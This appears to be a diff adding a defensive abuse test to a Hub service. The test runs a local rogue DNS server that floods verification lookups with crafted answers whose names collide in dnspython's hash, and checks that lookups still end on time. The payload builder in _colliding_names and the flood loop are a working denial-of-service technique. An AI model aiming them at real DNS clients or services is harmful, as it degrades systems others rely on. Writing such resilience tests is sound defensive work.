@@ -1,0 +1,118 @@
+"""Name servers of somebody who claims domains, so that the Hub asks them."""
+
+import itertools
+import socket
+import struct
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
+from datetime import timedelta
+from functools import partial
+
+import requests
+from django.db import connection
+from django.utils import timezone
+
+from orgs.models import Domain
+from tests import build
+from tests.abuse.world import Shipped, World, attack, milliseconds, stands_if
+
+SLOTS = 8  # looks at the DNS at once, of a server as it is shipped
+A_SECOND = 16  # datagrams to each question
+LONGEST = 4096  # bytes
+BOUND = 20  # seconds; a look takes 8 at most, and a busy machine may need more
+
+
+@attack
+def a_name_server_that_never_stops(world: World) -> str:
+    """Datagrams without end that are no answer, each costly to parse: a look at the DNS did not end."""
+    claims = [_claim(f"evil{number}.dev") for number in range(SLOTS)]
+    honest = _claim("honest.dev")
+    connection.close()
+    with _never_stops() as address, world.hub(HUB_DNS_SERVERS=address) as hub:
+        looks = [threading.Thread(target=partial(_verify, hub, *each)) for each in claims]
+        for each in looks:
+            each.start()
+        times = [milliseconds(partial(_send, hub, number)) for number in range(20)]
+        until = time.monotonic() + BOUND
+        for each in looks:
+            each.join(max(0.0, until - time.monotonic()))
+        going_on = sum(each.is_alive() for each in looks)
+        hint = _verify(hub, *honest)
+    figures = (
+        f"{going_on} of {SLOTS} looks go on after {BOUND} s; somebody else is told: {hint} "
+        f"A report took {max(times):.0f} ms at most beside them"
+    )
+    return stands_if(going_on == 0 and "many domains" not in hint, figures)
+
+
+def _claim(name: str) -> tuple[str, str]:
+    """A claim of an organization of its own: its name, and a token of a member."""
+    owner = build.organization(name)
+    claim = build.domain(owner, name, verified=False)
+    Domain.objects.filter(pk=claim.pk).update(expires_at=timezone.now() + timedelta(days=9))
+    return name, build.token(build.member(owner, name))
+
+
+def _verify(hub: Shipped, name: str, token: str) -> str:
+    """What is said about the claim after a look at the DNS; empty if the Hub ended before."""
+    path = f"{hub.url}/v1/orgs/me/domains/{name}/verify"
+    try:
+        answer = requests.post(
+            path, json={}, headers={"Authorization": f"Bearer {token}"}, timeout=120
+        )
+    except requests.ConnectionError:
+        return ""
+    return str(answer.json().get("hint"))
+
+
+def _send(hub: Shipped, number: int) -> None:
+    hub.post(build.report(f"https://docs.example/{number}"))
+
+
+@contextmanager
+def _never_stops() -> Iterator[str]:
+    """The address of a server that sends to whoever has asked, until the block ends."""
+    costly = b"\xff\xff" + _colliding_names()[2:]
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.bind(("127.0.0.1", 0))
+    server.settimeout(1 / A_SECOND)
+    stop = threading.Event()
+    thread = threading.Thread(target=_keep_sending, args=(server, costly, stop.is_set))
+    thread.start()
+    try:
+        yield f"127.0.0.1:{server.getsockname()[1]}"
+    finally:
+        stop.set()
+        thread.join()
+        server.close()
+
+
+def _keep_sending(server: socket.socket, message: bytes, is_over: Callable[[], bool]) -> None:
+    asked, again = set(), time.monotonic()
+    while not is_over():
+        with suppress(OSError):  # nobody asks now, or one has closed its socket
+            asked.add(server.recvfrom(LONGEST)[1])
+        if time.monotonic() >= again:
+            again = time.monotonic() + 1 / A_SECOND
+            for each in asked:
+                server.sendto(message, each)
+
+
+def _colliding_names() -> bytes:
+    """An answer whose names have the same hash in dnspython, which parses them in quadratic time."""
+    records: list[bytes] = []
+    question = b"\x04evil\x03dev\x00" + struct.pack("!HH", 16, 1)
+    names = (bytes([22]) + b"".join(each) for each in itertools.product((b"aj", b"ba"), repeat=11))
+    first = next(names)
+    rest = 12 + len(question) + len(first)  # where the first name goes on, as all others do
+    data = struct.pack("!HHIH", 1, 1, 60, 4) + bytes(4)
+    records.append(first + b"\x01a" * 100 + b"\x00" + data)
+    for each in names:
+        record = each + struct.pack("!H", 0xC000 | rest) + data
+        if sum(map(len, records)) + len(record) > LONGEST - 100:
+            break
+        records.append(record)
+    head = struct.pack("!HHHHHH", 1, 0x8400, 1, len(records), 0, 0)
+    return head + question + b"".join(records)
